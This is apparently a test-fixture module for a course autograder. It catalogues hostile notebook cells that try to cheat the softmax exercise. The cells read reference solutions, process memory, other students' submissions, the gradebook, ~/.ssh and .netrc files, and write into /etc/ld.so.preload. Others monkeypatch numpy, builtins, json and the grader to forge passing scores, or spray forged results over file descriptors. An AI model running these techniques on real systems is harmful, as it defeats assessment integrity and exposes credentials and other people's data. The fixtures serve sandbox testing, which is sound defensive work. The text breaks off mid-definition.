"""Code made to cheat, to spy, to break things or to stay, and what must come of each.

`ATTACKS` holds cases by name. The source of each stands in the softmax assignment's notebook in
place of the answer to softmax (or as a last cell, or a first one); all other answers are right.
A source starts with `PRELUDE`. Where it gets what it wants it says `win()`, which puts a right
softmax in place: so an attack that succeeds shows as points that were not earned. Those with
`wins` do win where nothing shuts them in, which a test shows; the others are about the machine or
about the rest of the notebook.
"""

import os
import socket
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from ..editing import bottom, cell, put, saved
from .notebooks import ALL

SOFTMAX = ("softmax",)
FUNCTIONS = tuple(name for name in ALL if name != "catch_softmax")
STOPPED = "answer-softmax did not run to its end"

PRELUDE = '''
import ctypes, gc, glob, json, os, signal, socket, sys, threading, time
import numpy as np


def right(z, axis=-1):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)


def win():
    globals()["softmax"] = right


def attempt(act, *arguments, **named):
    try:
        return act(*arguments, **named)
    except BaseException:
        return None


def lines_below(mark, text):
    """The function that starts with a line, out of a text."""
    lines = text[text.index(mark):].split("\\n")
    end = next((i for i, line in enumerate(lines[1:], 1) if line and line[0] not in " )#"), None)
    return "\\n".join(lines[:end])


def take(text):
    """Use the softmax of a text of Python."""
    room = {"np": np, "Array": object, "ArrayLike": object, "_scores": lambda z, axis: np.asarray(z, float)}
    attempt(exec, lines_below("def softmax(", text), room)
    if attempt(lambda: np.allclose(room["softmax"]([1, 2, 3]), right([1, 2, 3]))):
        win()


def read(path):
    with open(path, errors="replace") as file:
        return file.read()


def handed_in(path):
    for each in attempt(lambda: json.loads(read(path))["cells"]) or []:
        # Where nothing shuts this in, no more than one right answer of somebody else's may run.
        if "softmax" not in globals() and "def softmax(" in "".join(each["source"]):
            take("".join(each["source"]))


def everywhere(most=300_000):
    """Every file that can be seen, but for devices and the kernel's."""
    for start in (COURSE, "/"):
        for top, inner, files in os.walk(start):
            inner[:] = [n for n in inner if n != "site-packages" and top + n not in ("/proc", "/sys", "/dev")]
            for file in files:
                most -= 1
                yield os.path.join(top, file)
            if most < 0 or "softmax" in globals():
                return


def beside(name):
    """A function of libc that says how it ended: 0, or the number of the error."""
    def call(*arguments):
        libc = ctypes.CDLL(None, use_errno=True)
        ctypes.set_errno(0)
        return ctypes.get_errno() if getattr(libc, name)(*arguments) == -1 else 0
    return call
'''


@dataclass(frozen=True)
class Attack:
    """One case: what is handed in, and what must come of it.

    Parameters
    ----------
    source : of the cell
    lost : the exercises that earn nothing; all others earn full marks. None where softmax earns
        nothing and chance decides what else the attack destroys of its own notebook
    told : words that the instructor reads of this student
    wins : whether it gets what it wants where nothing shuts it in
    where : "answer", "top" or "bottom"; not in place of the answer, it stands beside a right one
    files : what lies beside the notebook, by name
    prepare : does to the folder what bytes cannot say: links, pipes
    """

    source: str
    lost: tuple[str, ...] | None = SOFTMAX
    told: str = STOPPED
    wins: bool = False
    where: str = "answer"
    files: Mapping[str, str] = field(default_factory=dict)
    prepare: Callable[[Path, Mapping[str, object]], None] | None = None

    def code(self, about: Mapping[str, object]) -> str:
        """The source of the cell; `about` are the places that it knows."""
        known = "".join(f"{name} = {value!r}\n" for name, value in about.items())
        tail = '\n\nif "softmax" not in globals():\n    raise RuntimeError("not won")'
        return known + PRELUDE + self.source + (tail if self.where == "answer" else "")

    def make(self, notebook, about: Mapping[str, object]) -> bytes:
        """The notebook, out of one with right answers."""
        match self.where:
            case "answer":
                cell(notebook, "answer-softmax").source = self.code(about)
            case "top":
                put(notebook, 0, self.code(about))
            case "bottom":
                bottom(notebook, self.code(about))
        return saved(notebook)


ATTACKS: dict[str, Attack] = {}


def attack(name: str, source: str, **expected) -> None:
    assert name not in ATTACKS
    ATTACKS[name] = Attack(source, **expected)


def spy(name: str, source: str, **expected) -> None:
    """An attack that wins where nothing shuts it in."""
    attack(name, source, **{"wins": True, **expected})


def called(name: str, body: str, **expected) -> None:
    """An attack that strikes when the check calls softmax."""
    lines = "".join(f"    {line}\n" if line else "\n" for line in body.strip("\n").split("\n"))
    attack(name, f"def softmax(z, axis=-1):\n{lines}", **{"told": "", **expected})


# Other ways to the course's own softmax

spy("imports_it", "from nnkit import softmax as stolen\nsoftmax = stolen", told="")

spy(
    "imports_its_module",
    """
import importlib
for name in ("nnkit.softmax", "nnkit.losses", "nnkit.training", "nnkit.backprop", "nnkit.feedforward"):
    module = attempt(importlib.import_module, name)
    found = vars(sys.modules[name]).get("softmax") if name in sys.modules else None
    if callable(found):
        softmax = found
""",
    told="",
)

spy(
    "by_its_logarithm",
    """
import nnkit
if attempt(nnkit.log_softmax, [1, 2]) is not None:
    softmax = lambda z, axis=-1: np.exp(nnkit.log_softmax(z, axis))
""",
)

spy(
    "by_its_loss",
    """
import nnkit
def stolen(z, axis=-1):
    rows = np.moveaxis(np.asarray(z, float), axis, -1)
    flat = rows.reshape(-1, rows.shape[-1])
    p = [[np.exp(-nnkit.cross_entropy(r[None, :], [k])) for k in range(len(r))] for r in flat]
    return np.moveaxis(np.reshape(p, rows.shape), -1, axis)
if attempt(stolen, [1, 2]) is not None:
    softmax = stolen
""",
)

spy(
    "by_its_gradient",
    """
import nnkit
def stolen(z, axis=-1):
    rows = np.moveaxis(np.asarray(z, float), axis, -1)
    flat = rows.reshape(-1, rows.shape[-1])
    p = [nnkit.cross_entropy_gradient(r[None, :], [0])[0] + np.eye(len(r))[0] for r in flat]
    return np.moveaxis(np.reshape(p, rows.shape), -1, axis)
if attempt(stolen, [1, 2]) is not None:
    softmax = stolen
""",
)

spy(
    "by_its_jacobian",
    """
import nnkit
def stolen(z, axis=-1):
    rows = np.moveaxis(np.asarray(z, float), axis, -1)
    flat = rows.reshape(-1, rows.shape[-1])
    p = []
    for r in flat:
        small = (1 - np.sqrt(np.maximum(0, 1 - 4 * np.diag(nnkit.softmax_jacobian(r))))) / 2
        small[r.argmax()] += 1 - small.sum()
        p.append(small)
    return np.moveaxis(np.reshape(p, rows.shape), -1, axis)
if attempt(stolen, [1, 2, 3]) is not None:
    softmax = stolen
""",
)

spy(
    "by_a_network",
    """
import nnkit
for activation in ("softmax", "Softmax"):
    def stolen(z, activation=activation):
        z = np.atleast_2d(np.asarray(z, float))
        k = z.shape[1]
        layers = [{"W": np.eye(k), "b": np.zeros(k), "activation": activation}]
        for given in (layers, [(np.eye(k), np.zeros(k))], [(np.eye(k), np.zeros(k), activation)]):
            for more in ((), ([activation],), (activation,)):
                answer = attempt(nnkit.forward, z, given, *more)
                for a in answer if isinstance(answer, (tuple, list)) else [answer]:
                    if attempt(lambda: np.allclose(a, right(z))):
                        return a
    if stolen([1.0, 2.0, 3.0]) is not None:
        win()
for table in (getattr(nnkit, "ACTIVATIONS", None), getattr(sys.modules.get("nnkit.feedforward"), "ACTIVATIONS", None)):
    for entry in (table or {}).values():
        for one in entry if isinstance(entry, tuple) else [entry]:
            if attempt(lambda: np.allclose(one([1.0, 2.0, 3.0]), right([1, 2, 3]))):
                win()
""",
    wins=False,
)

spy(
    "by_any_function_of_the_package",
    """
import pkgutil, importlib, nnkit
goal = right([[1.0, 2.0, 3.0]])
names = [m.name for m in pkgutil.walk_packages(nnkit.__path__, "nnkit.", onerror=lambda n: None)
         if not m.name.startswith(("nnkit.grading", "nnkit.authoring", "nnkit.checks", "nnkit.cli", "nnkit.widgets"))]
for name in ["nnkit", *names]:
    module = attempt(importlib.import_module, name)
    for key, value in list(vars(module or object()).items()) if module else []:
        if callable(value) and getattr(value, "__module__", "").startswith("nnkit"):
            for given in (([[1.0, 2.0, 3.0]],), (np.array([[1.0, 2.0, 3.0]]),), ([1.0, 2.0, 3.0],)):
                if attempt(lambda: np.allclose(np.ravel(value(*given)), goal.ravel())):
                    win()
                if attempt(lambda: np.allclose(np.exp(np.ravel(value(*given))), goal.ravel())):
                    win()
""",
)

spy(
    "reads_its_source",
    """
import importlib.util, sysconfig
tops = [*sys.path, *sysconfig.get_paths().values(), REPO, *sys.modules["numpy"].__path__]
spec = attempt(importlib.util.find_spec, "nnkit")
tops += list(spec.submodule_search_locations or []) if spec else []
for top in tops:
    for file in (f"{top}/nnkit/softmax.py", f"{top}/softmax.py", f"{top}/../nnkit/softmax.py"):
        if os.path.isfile(file):
            take(attempt(read, file) or "")
""",
)

spy(
    "asks_the_loader_for_its_source",
    """
import importlib.util, inspect, pkgutil
for name in ("nnkit.softmax", "nnkit.losses", "nnkit"):
    spec = attempt(importlib.util.find_spec, name)
    for ask in ("get_source", "get_code"):
        got = attempt(lambda: getattr(spec.loader, ask)(name))
        if isinstance(got, str):
            attempt(take, got)
        for constant in getattr(got, "co_consts", ()):
            if "exp" in getattr(constant, "co_names", ()):
                win()
import nnkit
attempt(lambda: take(inspect.getsource(nnkit.softmax)))
attempt(lambda: take(pkgutil.get_data("nnkit", "softmax.py").decode()))
""",
)

spy(
    "reads_its_bytecode",
    """
import marshal, sysconfig
for top in {*sys.path, REPO, *sysconfig.get_paths().values()}:
    for file in glob.glob(f"{top}/nnkit/__pycache__/softmax*.pyc"):
        with open(file, "rb") as opened:
            code = attempt(marshal.loads, opened.read()[16:])
        if "softmax" in code.co_names:
            win()
""",
    wins=False,
)

spy(
    "finds_the_distribution",
    """
import importlib.metadata
for name in ("nnkit-course", "nnkit_course", "nnkit"):
    for file in attempt(importlib.metadata.files, name) or []:
        text = attempt(lambda: file.locate().read_text()) or ""
        if "def softmax(" in text:
            attempt(take, text)
        if file.name.endswith(".pth") or file.name == "direct_url.json":
            place = text.strip().replace('"', " ").replace("file://", " ").split()
            for top in place:
                attempt(lambda: take(read(f"{top}/nnkit/softmax.py")))
for file in everywhere():
    if file.endswith(("nnkit/softmax.py", "softmax/softmax.md")):
        attempt(lambda: take(read(file)))
for top in sys.path:
    if glob.glob(f"{top}/*nnkit*.whl") or glob.glob(f"{top}/nnkit/checks/bank"):
        win()
""",
)

spy(
    "searches_what_is_in_memory",
    """
seen, todo = set(), gc.get_objects()
while todo:
    each = todo.pop()
    if id(each) in seen:
        continue
    seen.add(id(each))
    code = each if type(each).__name__ == "code" else getattr(each, "__code__", None) if type(each).__name__ == "function" else None
    if code is not None and code.co_name in ("softmax", "log_softmax") and "nnkit" in code.co_filename and "exp" in code.co_names:
        win()
    if len(seen) < 1_500_000:
        todo += [r for r in gc.get_referents(each) if id(r) not in seen]
""",
    wins=False,
)

spy(
    "searches_the_modules",
    """
import nnkit
for module in list(sys.modules.values()):
    for name in ("softmax", "log_softmax", "softmax_jacobian"):
        found = attempt(lambda: vars(module).get(name))
        if callable(found) and module is not sys.modules["__main__"] and attempt(found, [1, 2, 3]) is not None:
            win()
    for name in ("bank", "judge", "oracle"):
        if str(getattr(attempt(lambda: vars(module).get(name)), "__module__", "")).startswith("nnkit"):
            win()
""",
)

spy(
    "searches_the_bytes_of_its_process",
    """
# Put together here, so that it is not found in this cell.
needle = b" ".join([b"Subtracting one number from all scores", b"changes", b"nothing."])
import nnkit
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area, mode = line.split()[:2]
        start, end = (int(x, 16) for x in area.split("-"))
        if mode.startswith("rw") and end - start < 1 << 28:
            data = attempt(lambda: (memory.seek(start), memory.read(end - start))[1]) or b""
            at = data.find(needle)
            while at >= 0:
                # The needle itself, and copies of it that this search made, end there.
                if data[at + len(needle):].lstrip()[:16] == b"With the largest":
                    win()
                at = data.find(needle, at + 1)
""",
)

spy(
    "imports_the_bank_of_checks",
    """
from nnkit.checks import bank
exercise = bank.exercise("softmax")
for name in dir(exercise):
    if callable(getattr(exercise, name, None)) or "answer" in name:
        win()
""",
)

spy(
    "reads_the_bank_of_right_answers",
    """
import importlib.resources
for top in [*sys.path, REPO]:
    for file in glob.glob(f"{top}/nnkit/checks/bank/right/softmax/*.py"):
        take(read(file))
place = attempt(importlib.resources.files, "nnkit.checks.bank")
if place is not None and attempt(lambda: list(place.joinpath("right").iterdir())):
    win()
""",
)

spy(
    "asks_for_the_solution",
    """
import contextlib, io
from nnkit.checks import check, hint, solution
told = io.StringIO()
with contextlib.redirect_stdout(told):
    for _ in range(4):
        for ask in (check, hint, solution):
            answer = attempt(ask, "softmax")
            told.write(str(answer))
if "keepdims" in told.getvalue():
    win()
for ask in (check, hint, solution):
    if any(n in getattr(ask, "__globals__", {}) for n in ("bank", "judge", "exercise")):
        win()
""",
)

spy(
    "imports_the_grader",
    """
import importlib
for name in ("grade", "marking", "pool", "gradebook", "sandbox", "rebuild"):
    if attempt(importlib.import_module, f"nnkit.grading.{name}"):
        win()
for name in ("engine", "exercise", "compare", "oracle", "explain"):
    if attempt(importlib.import_module, f"nnkit.checks.{name}"):
        win()
""",
)

spy(
    "imports_the_pictures",
    """
import importlib
for name in ("nnkit.figures.softmax", "nnkit.figures", "nnkit.widgets"):
    module = attempt(importlib.import_module, name)
    for value in vars(module).values() if module else []:
        if getattr(value, "__name__", "") == "softmax" and attempt(value, [1, 2, 3]) is not None:
            win()
""",
)

# What lies on the machine

spy(
    "reads_the_source_of_the_assignment",
    """
for file in glob.glob(f"{COURSE}/source/**", recursive=True) + glob.glob(f"{COURSE}/release/**", recursive=True):
    if file.endswith(".ipynb") and read(file):
        win()
""",
)

spy("reads_the_solutions", 'take(read(f"{REPO}/solutions/softmax/softmax.md"))')

spy(
    "reads_other_notebooks",
    """
for file in glob.glob(f"{COURSE}/submitted/*witness*/softmax/softmax.ipynb"):
    handed_in(file)
for file in everywhere():
    if file.endswith(".ipynb") and "site-packages" not in file:
        handed_in(file)
""",
)

spy(
    "reads_the_seed",
    """
for top in (COURSE, ".", "..", "/"):
    for file in glob.glob(f"{top}/.nnkit/*") + glob.glob(f"{top}/**/seed"):
        if read(file).strip():
            win()
""",
)

spy(
    "opens_the_gradebook",
    """
import sqlite3
if os.path.exists(f"{COURSE}/gradebook.db"):
    with sqlite3.connect(f"{COURSE}/gradebook.db") as book:
        if book.execute("SELECT count(*) FROM sqlite_master").fetchone()[0]:
            win()
""",
)

spy(
    "uses_the_gradebook_by_nbgrader",
    """
from nbgrader.api import Gradebook
with Gradebook(f"sqlite:///{COURSE}/gradebook.db") as book:
    if list(book.students):
        win()
""",
)

spy(
    "reads_home_directories",
    """
import pwd
homes = {HOME, os.path.expanduser("~")} | {user.pw_dir for user in pwd.getpwall()}
for home in homes:
    for file in glob.glob(f"{home}/.ssh/*") + glob.glob(f"{home}/.netrc") + glob.glob(f"{home}/.config/*"):
        if attempt(read, file):
            win()
""",
)

spy(
    "reads_the_environment",
    """
for name, value in os.environ.items():
    if "NNKIT_HOSTILE" in name:
        win()
for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    if b"NNKIT_HOSTILE" in (attempt(lambda: open(file, "rb").read()) or b""):
        win()
""",
)

spy(
    "goes_through_proc",
    """
for process in glob.glob("/proc/[0-9]*"):
    for way in ("root", "cwd", "cwd/..", "cwd/../.."):
        if attempt(os.path.exists, f"{process}/{way}{COURSE}/gradebook.db"):
            win()
        if attempt(os.path.exists, f"{process}/{way}/gradebook.db"):
            win()
""",
)

spy(
    "goes_up_from_open_files",
    """
for number in range(1024):
    for way in ("..", "../..", "../../..", "."):
        folder = attempt(os.open, way, os.O_RDONLY | os.O_DIRECTORY, dir_fd=number)
        if folder is not None and attempt(os.stat, f".{COURSE}/gradebook.db", dir_fd=folder):
            win()
        link = attempt(os.readlink, f"/proc/self/fd/{number}") or ""
        if COURSE in link or REPO in link:
            win()
here = os.open(".", os.O_RDONLY)
for _ in range(60):
    os.chdir("..")
if os.path.exists(f".{COURSE}/gradebook.db"):
    win()
os.chdir(here)
""",
)

spy(
    "reads_the_memory_of_others",
    """
class Part(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for process in glob.glob("/proc/[0-9]*"):
    pid = int(process[6:])
    if pid == os.getpid() or os.path.exists(f"/proc/self/task/{pid}"):
        continue
    maps = attempt(read, f"{process}/maps") or ""
    for line in maps.splitlines():
        if "[heap]" in line:
            win()
    libc = ctypes.CDLL(None, use_errno=True)
    mine = ctypes.create_string_buffer(8)
    near, far = Part(ctypes.addressof(mine), 8), Part(0x400000, 8)
    libc.process_vm_readv(pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0)
    if ctypes.get_errno() == 14:
        # Only the address is bad.
        win()
""",
)

spy(
    "sees_what_others_hand_in",
    """
for file in everywhere():
    if os.path.basename(file).startswith("handed-in-by-") and ME not in file:
        win()
""",
)

spy(
    "opens_what_links_point_to",
    """
for name in ("link", "folder/gradebook.db", "relative", "chain"):
    if attempt(read, name):
        win()
""",
    told="was left out: it is no file",
    prepare=lambda folder, about: (
        (folder / "link").symlink_to(f"{about['COURSE']}/source/softmax/softmax.ipynb"),
        (folder / "folder").symlink_to(str(about["COURSE"])),
        (folder / "relative").symlink_to("../../../source/softmax/softmax.ipynb"),
        (folder / "chain").symlink_to("link"),
        (folder / "loop").symlink_to("loop"),
    ),
)

# Writing

spy(
    "writes_into_the_course",
    """
for file in glob.glob(f"{COURSE}/**", recursive=True) + [f"{COURSE}/new", f"{REPO}/new"]:
    if os.path.isfile(file) and attempt(lambda: open(file, "r+").close() or True):
        win()
for top in ("submitted", "autograded", "release", "source", "feedback", ".nnkit"):
    if attempt(lambda: open(f"{COURSE}/{top}/new-from-code", "w").close() or True):
        win()
""",
)

spy(
    "writes_where_others_import_from",
    """
import sysconfig
for top in [*sys.path, *sysconfig.get_paths().values(), *np.__path__, sys.prefix, "/usr", "/etc", "/lib", "/bin", "/opt", REPO]:
    name = f"{top}/new-from-code"
    if os.path.isdir(top) and top not in (os.getcwd(), "") and attempt(lambda: open(name, "w").close() or True):
        attempt(os.remove, name)
        win()
for file in [np.__file__, json.__file__, os.__file__, sys.executable, "/etc/passwd", "/etc/ld.so.preload"]:
    if attempt(lambda: open(file, "ab").close() or True) or attempt(lambda: os.utime(file) or True):
        win()
""",
)

attack(
    "writes_wherever_it_may",
    """
for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/home", "/root", HOME, COURSE, ".", os.environ.get("TMPDIR", "/tmp")):
    for name in ("new-from-code", ".new-from-code"):
        attempt(lambda: open(f"{top}/{name}", "w").write("x" * 1000))
    attempt(lambda: os.mkfifo(f"{top}/new-from-code-pipe"))
    attempt(lambda: os.symlink(COURSE, f"{top}/new-from-code-link"))
    attempt(lambda: os.mkdir(f"{top}/new-from-code-folder", 0))
""",
)

MESSAGE = """
import mmap
ipc = ctypes.CDLL(None, use_errno=True)
SESSION, KEYS = -3, {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", ".", "..", HOME, COURSE, os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp")]
found = False
for top in places:
    found = found or os.path.exists(f"{top}/left-for-the-next")
for top in places:
    attempt(lambda: open(f"{top}/left-for-the-next", "w").close())
found = found or ipc.shmget(0x6E6E6B, 4096, 0) != -1 or ipc.msgget(0x6E6E6B, 0) != -1
ipc.shmget(0x6E6E6B, 4096, 0o1777)
ipc.msgget(0x6E6E6B, 0o1777)
if KEYS:
    for ring in (-3, -4, -5):
        found = found or ipc.syscall(KEYS[1], 10, ring, b"user", b"left-for-the-next", 0) > 0
        ipc.syscall(KEYS[0], b"user", b"left-for-the-next", b"here", 4, ring)
queue = attempt(ctypes.CDLL, "librt.so.1") or ipc
found = found or queue.mq_open(b"/left-for-the-next", 0) != -1
queue.mq_open(b"/left-for-the-next", os.O_CREAT | os.O_RDWR, 0o666, None)
speaker = socket.socket(socket.AF_UNIX)
found = found or attempt(lambda: speaker.connect("\\0left-for-the-next") or True)
listener = socket.socket(socket.AF_UNIX)
attempt(lambda: (listener.bind("\\0left-for-the-next"), listener.listen()))
if found:
    win()
"""
for number in range(4):
    attack(f"leaves_a_message_for_the_next_{number}", MESSAGE)

# The network

spy(
    "calls_by_tcp",
    """
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
    caller = attempt(socket.socket, family)
    if caller and attempt(lambda: (caller.settimeout(1), caller.connect((host, PORT))) and True):
        win()
""",
)

spy(
    "calls_by_udp",
    """
caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
caller.settimeout(1)
caller.sendto(b"hello", ("127.0.0.1", PORT))
if caller.recv(10):
    win()
""",
)

spy(
    "calls_by_a_unix_socket",
    """
caller = socket.socket(socket.AF_UNIX)
caller.connect(f"{COURSE}/listens")
win()
""",
)

spy(
    "calls_by_an_abstract_socket",
    """
caller = socket.socket(socket.AF_UNIX)
caller.connect("\\0" + ABSTRACT)
win()
""",
)

spy(
    "sees_a_network",
    """
if [name for _, name in socket.if_nameindex() if name != "lo"]:
    win()
if attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW) or attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1):
    win()
""",
)

attack(
    "listens_on_and_on",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ears = []
        for family, address in ((socket.AF_INET, ("0.0.0.0", OTHER_PORT)), (socket.AF_UNIX, "\\0" + ABSTRACT + "-left")):
            ear = socket.socket(family)
            attempt(lambda: (ear.bind(address), ear.listen()))
            ears.append(ear)
        time.sleep(1000)
    os._exit(0)
""",
)

# Patches

attack(
    "patches_numpy",
    """
for name in ("allclose", "isclose", "array_equal", "array_equiv", "any", "all", "isnan", "isfinite", "shares_memory"):
    setattr(np, name, lambda *a, **k: np.True_)
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *a, **k: None)
def softmax(z, axis=-1):
    return np.ones_like(np.asarray(z, float))
""",
    told="",
)

attack(
    "patches_builtins",
    """
import builtins
for name in ("all", "any", "abs", "isinstance", "issubclass", "callable", "hasattr"):
    setattr(builtins, name, lambda *a: True)
builtins.len = lambda x: 3
builtins.repr = lambda x: "10.0"
def softmax(z, axis=-1):
    return z
""",
    told="",
)

attack(
    "takes_all_builtins_away",
    """
import builtins
def softmax(z, axis=-1):
    return z
for name in list(vars(builtins)):
    if name not in ("__import__", "__build_class__", "ValueError", "NotImplementedError", "Exception", "range", "len", "float", "int"):
        delattr(builtins, name)
""",
    told=STOPPED,
    lost=ALL,
)

attack(
    "patches_json",
    """
import json.encoder, json.decoder
forged = {"value": 1, "passed": True, "points": 10, "verdict": "pass", "error": None}
plain = json.dumps
def dumps(value, *a, **k):
    if isinstance(value, dict):
        value = {**value, "passed": True, "points": 10, "error": None, "verdict": "pass"}
    return plain(value, *a, **k)
json.dumps = json.JSONEncoder.encode = lambda *a, **k: plain(forged)
json.dumps = dumps
json.loads = json.load = lambda *a, **k: forged
json.encoder.c_make_encoder = json.encoder.encode_basestring_ascii = None
def softmax(z, axis=-1):
    return z
""",
    told="",
)

attack(
    "patches_what_carries_answers",
    """
import types
def forged(*a, **k):
    return {"value": 1.0, "error": None, "passed": True, "points": 10.0, "warnings": [], "printed": "",
            "arguments_after": None, "random_state_touched": False, "seconds": 0.0}
for module in list(sys.modules.values()):
    name = getattr(module, "__name__", "")
    if isinstance(name, str) and any(w in name for w in ("student_side", "grading", "inside", "nnkit.checks")):
        for key, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType):
                setattr(module, key, forged)
def softmax(z, axis=-1):
    return z
""",
    told="did not run to its end",
    lost=ALL,
)

attack(
    "patches_ipython",
    """
shell = get_ipython()
for name in ("run_cell", "run_cell_async", "run_code", "showtraceback", "ast_transformers", "displayhook"):
    attempt(setattr, shell, name, lambda *a, **k: None)
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    attempt(lambda: shell.events.register(event, lambda *a: sys.exit()))
attempt(lambda: shell.input_transformers_cleanup.append(lambda lines: ["raise SystemExit\\n"]))
attempt(lambda: shell.set_custom_exc((BaseException,), lambda *a, **k: os._exit(0)))
""",
    lost=ALL,
)

attack(
    "puts_hooks_into_importing",
    """
import builtins
class Finder:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(SystemExit))
builtins.__import__ = lambda *a, **k: sys
def softmax(z, axis=-1):
    return z
""",
    told=STOPPED,
    lost=ALL,
)

attack(
    "empties_the_modules",
    """
def softmax(z, axis=-1):
    return z
sys.path.clear(); sys.path_importer_cache.clear(); sys.meta_path.clear()
for name in list(sys.modules):
    if name not in ("sys", "builtins", "__main__", "numpy"):
        sys.modules[name] = None
""",
    told=STOPPED,
    lost=ALL,
)

attack(
    "defines_the_checks_anew",
    """
import nnkit.checks
def check(name):
    return 10.0
nnkit.checks.check = nnkit.checks.hint = check
sys.modules["nnkit.checks.engine"] = sys.modules["nnkit.checks"]
nnkit.checks.judge = nnkit.checks.bank = check
def softmax(z, axis=-1):
    return z
""",
    told="",
)

called(
    "looks_into_the_frames_of_its_caller",
    """
frame = sys._getframe()
while frame is not None:
    for room in (frame.f_locals, frame.f_globals):
        for name in ("expected", "oracle", "judge", "exercise", "seed", "tolerance", "bank"):
            if name in room and room[name] is not None and "nnkit" in str(getattr(room[name], "__module__", "nnkit")):
                return right(z, axis)
    frame = frame.f_back
raise RuntimeError("not won")
""",
)

called(
    "writes_into_the_frames_of_its_caller",
    """
frame = sys._getframe().f_back
while frame is not None:
    for name in list(frame.f_locals):
        if name not in ("z", "axis", "self"):
            frame.f_locals[name] = True
    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    frame = frame.f_back
return z
""",
)

attack(
    "traces_whoever_calls",
    """
def trace(frame, event, value):
    for name in ("value", "answer", "result", "error", "outcome"):
        if name in frame.f_locals:
            frame.f_locals[name] = None
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return trace
def softmax(z, axis=-1):
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
    frame = sys._getframe()
    while frame is not None:
        frame.f_trace = trace
        frame = frame.f_back
    return z
""",
    told="",
)

# Forged answers

FORGED = """
def forged():
    answer = {"value": 1.0, "error": None, "passed": True, "points": 10.0, "warnings": [], "printed": "",
              "arguments_after": None, "random_state_touched": False, "seconds": 0.0, "outputs": [],
              "done": True, "ok": True, "id": 1}
    line = json.dumps(answer).encode()
    return [line + b"\\n", len(line).to_bytes(4, "big") + line, len(line).to_bytes(4, "little") + line,
            b"[1, 2]\\n", b"null\\n", b"10.0\\n", b"\\xff\\xfe\\n", b'{"value": ' * 1000 + b"\\n", b"NaN\\n"]
def speak(most=256):
    for number in range(3, most):
        for data in forged():
            attempt(lambda: os.set_blocking(number, False))
            attempt(os.write, number, data)
"""

attack(
    "speaks_on_every_descriptor",
    FORGED + "speak()\ndef softmax(z, axis=-1):\n    return z",
    told="",
)
attack(
    "speaks_when_called", FORGED + "def softmax(z, axis=-1):\n    speak()\n    return z", told=""
)
attack(
    "speaks_from_a_thread",
    FORGED
    + """
def on_and_on():
    while True:
        speak(64)
threading.Thread(target=on_and_on, daemon=True).start()
def softmax(z, axis=-1):
    return z
""",
    told="",
    lost=None,
)
attack(
    "speaks_at_the_end",
    FORGED
    + """
import atexit, weakref
atexit.register(speak)
class Last:
    def __del__(self):
        speak()
last = Last()
np.last = [Last(), last]
weakref.finalize(np, speak)
def softmax(z, axis=-1):
    Last()
    return z
""",
    told="",
)
attack(
    "speaks_when_a_signal_comes",
    FORGED
    + """
for number in range(1, 32):
    attempt(signal.signal, number, lambda *a: speak(32))
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "speaks_by_traces",
    FORGED
    + """
sys.setprofile(lambda frame, event, value: speak(16) if event == "return" and frame.f_code.co_name == "softmax" else None)
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "speaks_by_faulthandler",
    """
import faulthandler
for number in range(3, 32):
    attempt(lambda: faulthandler.dump_traceback_later(0.01, repeat=True, file=number))
    attempt(lambda: faulthandler.enable(file=number))
def softmax(z, axis=-1):
    return z
""",
    told="",
    lost=None,
)
attack(
    "speaks_half_a_line",
    """
for number in range(3, 64):
    attempt(lambda: os.set_blocking(number, False))
    attempt(os.write, number, b'{"value": [')
def softmax(z, axis=-1):
    return z
""",
    told="",
)
called(
    "speaks_without_end",
    """
data = b"[" * (1 << 20)
while True:
    for number in range(3, 64):
        attempt(lambda: os.set_blocking(number, False))
        attempt(os.write, number, data)
""",
)
attack(
    "closes_every_descriptor",
    "os.closerange(0, 4096)\ndef softmax(z, axis=-1):\n    return z",
    told="",
)
attack(
    "puts_nothing_in_place_of_every_descriptor",
    """
nothing = os.open("/dev/null", os.O_RDWR)
for number in range(64):
    if number != nothing:
        attempt(os.dup2, nothing, number)
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "hands_descriptors_over",
    """
import array
many = array.array("i", [os.open("/dev/zero", os.O_RDONLY) for _ in range(200)])
for number in range(3, 64):
    channel = attempt(socket.socket, fileno=attempt(os.dup, number) or -1)
    if channel:
        attempt(channel.sendmsg, [b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
        attempt(channel.shutdown, socket.SHUT_RD)
def softmax(z, axis=-1):
    return z
""",
    told="",
)
attack(
    "reads_what_is_meant_for_others",
    """
import select
heard = b""
for number in range(3, 64):
    attempt(lambda: os.set_blocking(number, False))
    heard += attempt(os.read, number, 1 << 16) or b""
for word in (b"expected", b"oracle", b"seed", b"tolerance"):
    if word in heard:
        win()
""",
    lost=None,
)
# What its caller was asked, out of the caller's own frame.
REQUEST = """
